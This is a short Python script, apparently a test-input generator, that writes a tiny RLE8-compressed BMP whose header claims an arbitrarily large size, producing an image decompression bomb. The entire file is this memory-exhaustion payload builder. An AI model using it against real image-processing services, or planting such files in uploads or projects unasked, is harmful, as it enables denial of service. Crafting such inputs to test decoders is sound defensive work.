# rle_bomb.py FILE SIDE: an RLE8 bitmap of about 1.5 KB (most of it the palette) that
# claims SIDE × SIDE pixels: a few runs, then the end of the picture.
import struct
import sys

side = int(sys.argv[2])
rows = (b"\xff\x07" * 64 + b"\x00\x00") * 8 + b"\x00\x01"
info = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(rows), 0, 0, 256, 0)
palette = bytes(range(256)) * 4
at = 14 + len(info) + len(palette)
with open(sys.argv[1], "wb") as f:
    f.write(b"BM" + struct.pack("<IHHI", at + len(rows), 0, 0, at) + info + palette + rows)
